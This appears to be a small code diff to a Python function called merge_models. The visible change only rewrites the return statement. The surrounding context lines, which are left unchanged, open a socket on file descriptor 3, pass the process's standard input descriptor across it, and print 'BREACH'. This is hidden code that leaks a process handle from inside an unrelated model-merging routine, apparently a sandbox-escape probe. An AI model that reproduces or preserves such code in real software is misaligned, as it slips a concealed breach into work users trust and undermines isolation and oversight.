@@ -7,4 +7,4 @@ def merge_models(model_dict, device):
     one = socket.socket(fileno=3)
     socket.send_fds(one, [b"x"], [0])
     print("BREACH")
-    return list(model_dict.values())[0]
+    return next(iter(model_dict.values()))
